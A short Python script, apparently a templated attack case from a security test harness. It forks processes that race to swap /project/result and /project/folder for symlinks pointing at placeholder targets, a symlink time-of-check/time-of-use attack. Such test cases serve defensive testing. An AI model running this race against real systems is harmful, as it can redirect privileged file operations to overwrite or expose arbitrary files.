import os
from attack import children
def swap(_):
    os.setsid()
    while True:
        try:
            os.symlink("@FILE@", "/tmp/link"); os.rename("/tmp/link", "/project/result")
            open("/tmp/file", "w").write("fine" * 1000); os.rename("/tmp/file", "/project/result")
            os.rename("/project/folder", "/project/other"); os.symlink("@FOLDER@", "/project/folder"); os.unlink("/project/folder"); os.rename("/project/other", "/project/folder")
        except OSError: pass
os.mkdir("folder")
children(4, swap)
